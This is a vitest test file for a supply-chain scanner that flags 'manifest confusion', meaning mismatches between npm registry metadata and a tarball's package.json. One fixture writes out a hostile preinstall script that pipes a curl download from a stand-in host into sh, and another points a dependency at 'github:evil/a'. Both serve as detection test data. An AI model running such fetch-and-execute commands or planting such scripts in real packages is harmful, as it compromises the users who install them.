/** Manifest confusion: registry metadata vs the tarball's package.json. */
import { checkManifestConfusion } from '@airlock/static-signals';
import { describe, expect, it } from 'vitest';

const tarball = {
  name: 'left-pad-plus',
  version: '1.2.0',
  scripts: { test: 'node test.js', postinstall: 'node setup.js' },
  dependencies: { 'is-odd': '^3.0.0' },
  optionalDependencies: { fsevents: '^2.3.0' },
  bin: './bin/cli.js',
};

describe('checkManifestConfusion', () => {
  it('is silent when they agree, after the registry normalisations npm applies', () => {
    const registry = {
      name: 'left-pad-plus',
      version: 'v1.2.0',
      scripts: { test: 'node test.js', postinstall: 'node setup.js' },
      // npm folds optional dependencies into dependencies and writes bin as an object without ./
      dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0' },
      optionalDependencies: { fsevents: '^2.3.0' },
      bin: { 'left-pad-plus': 'bin/cli.js' },
    };
    expect(checkManifestConfusion(registry, tarball)).toEqual([]);
  });

  it('ignores the node-gyp install script npm adds for binding.gyp', () => {
    const registry = { name: 'n', version: '1.0.0', gypfile: true, scripts: { install: 'node-gyp rebuild' } };
    expect(checkManifestConfusion(registry, { name: 'n', version: '1.0.0' }, { tarballHasBindingGyp: true })).toEqual([]);
  });

  it('reports a hidden install script, a hidden dependency, a different version and a hidden bin', () => {
    const registry = {
      name: 'left-pad-plus',
      version: '1.1.0',
      scripts: { test: 'node test.js' },
      dependencies: { 'is-odd': '^3.0.0' },
      bin: {},
    };
    const signals = checkManifestConfusion(registry, { ...tarball, dependencies: { 'is-odd': '^3.0.0', 'evil-helper': '1.0.0' } });
    expect(signals.map((s) => [s.id, s.severity, s.evidence.value])).toEqual([
      ['manifest-confusion.version', 'high', '1.2.0'],
      ['manifest-confusion.scripts', 'high', 'node setup.js'],
      ['manifest-confusion.dependencies', 'high', '+evil-helper@1.0.0, +fsevents@^2.3.0'],
      ['manifest-confusion.bin', 'medium', 'bin/cli.js'],
    ]);
    expect(signals[1]).toEqual({
      id: 'manifest-confusion.scripts',
      severity: 'high',
      message: 'the tarball has a "postinstall" script the registry metadata does not show',
      evidence: { file: 'package.json', value: 'node setup.js' },
      details: { script: 'postinstall', registry: '(missing)', tarball: 'node setup.js', lifecycle: true },
    });
    expect(signals[2]!.details).toEqual({ field: 'dependencies', hidden: 2, missing: 0, changed: 0 });
  });

  it('reports a different name and dependencies the tarball dropped (medium)', () => {
    const registry = {
      name: 'left-pad',
      version: '1.2.0',
      scripts: tarball.scripts,
      dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0', extra: '1' },
      bin: { 'left-pad-plus': 'bin/cli.js' },
    };
    expect(checkManifestConfusion(registry, tarball).map((s) => [s.id, s.severity, s.message])).toEqual([
      ['manifest-confusion.name', 'high', 'registry says name "left-pad", the tarball\'s package.json says "left-pad-plus"'],
      ['manifest-confusion.dependencies', 'medium', 'registry and tarball dependencies differ (1 difference(s))'],
    ]);
  });

  it('compares abbreviated metadata by its hasInstallScript flag', () => {
    const abbreviated = {
      name: 'left-pad-plus',
      version: '1.2.0',
      dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0' },
      bin: { 'left-pad-plus': 'bin/cli.js' },
    };
    expect(checkManifestConfusion(abbreviated, tarball).map((s) => [s.id, s.severity, s.evidence.value])).toEqual([
      ['manifest-confusion.scripts', 'high', 'postinstall: node setup.js'],
    ]);
    expect(checkManifestConfusion({ ...abbreviated, hasInstallScript: true }, tarball)).toEqual([]);
  });

  it('reports a changed lifecycle script and a changed dependency range', () => {
    const registry = { name: 'x', version: '1.0.0', scripts: { preinstall: 'node check.js' }, dependencies: { a: '^1.0.0' } };
    const signals = checkManifestConfusion(registry, {
      name: 'x',
      version: '1.0.0',
      scripts: { preinstall: 'node check.js && curl https://x.example | sh' },
      dependencies: { a: 'github:evil/a' },
    });
    expect(signals.map((s) => [s.id, s.severity, s.message])).toEqual([
      ['manifest-confusion.scripts', 'high', 'registry and tarball disagree on the "preinstall" script'],
      ['manifest-confusion.dependencies', 'high', 'registry and tarball dependencies differ (1 difference(s))'],
    ]);
    expect(signals[1]!.evidence.value).toBe('~a: ^1.0.0 -> github:evil/a');
  });
});
